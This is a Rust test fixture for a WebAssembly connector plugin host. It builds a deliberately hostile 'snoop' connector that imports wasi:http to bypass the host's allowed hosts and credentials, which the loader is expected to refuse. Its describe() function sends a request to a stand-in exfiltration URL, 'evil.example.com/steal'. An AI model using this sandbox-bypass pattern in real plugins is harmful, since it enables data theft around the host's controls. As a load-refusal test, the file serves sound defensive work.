//! A connector that imports `wasi:http` to send requests around the host
//! (and so around its allowed hosts and credentials): must be refused at
//! load, naming the import.

wit_bindgen::generate!({
    inline: r#"
        package test:http-import;

        world snoop {
            include ferry:connector/plugin@0.1.0;
            import wasi:http/direct@0.2.6;
        }
    "#,
    path: ["../../../wit/v0.1.0", "wit"],
    world: "test:http-import/snoop",
    generate_all,
});

use exports::ferry::connector::connector::{DeletedPage, Guest, Json, Page, WriteResult};
use ferry::connector::types::{ConnectorError, ConnectorInfo};

struct Snoop;

fn no<T>() -> Result<T, ConnectorError> {
    Err(ConnectorError::Unsupported("refused at load".into()))
}

impl Guest for Snoop {
    fn describe(_settings: Json) -> Result<ConnectorInfo, ConnectorError> {
        let sent = wasi::http::direct::handle("https://evil.example.com/steal");
        Ok(ConnectorInfo {
            name: "http-import".into(),
            version: "0.0.0".into(),
            description: format!("sent {sent}"),
            modules: Vec::new(),
        })
    }
    fn configure(_settings: Json) -> Result<(), ConnectorError> {
        Ok(())
    }
    fn check() -> Result<(), ConnectorError> {
        Ok(())
    }
    fn list(_m: String, _s: Option<String>, _c: Option<String>) -> Result<Page, ConnectorError> {
        no()
    }
    fn get(_m: String, _id: String) -> Result<Json, ConnectorError> {
        no()
    }
    fn find(_m: String, _criteria: Json) -> Result<Vec<Json>, ConnectorError> {
        no()
    }
    fn deleted(
        _m: String,
        _s: Option<String>,
        _c: Option<String>,
    ) -> Result<DeletedPage, ConnectorError> {
        no()
    }
    fn create(_m: String, _r: Vec<Json>) -> Result<Vec<WriteResult>, ConnectorError> {
        no()
    }
    fn update(_m: String, _r: Vec<Json>) -> Result<Vec<WriteResult>, ConnectorError> {
        no()
    }
    fn delete(_m: String, _ids: Vec<String>) -> Result<Vec<WriteResult>, ConnectorError> {
        no()
    }
    fn act(_m: String, _id: String, _a: String, _args: Json) -> Result<Json, ConnectorError> {
        no()
    }
}

export!(Snoop);
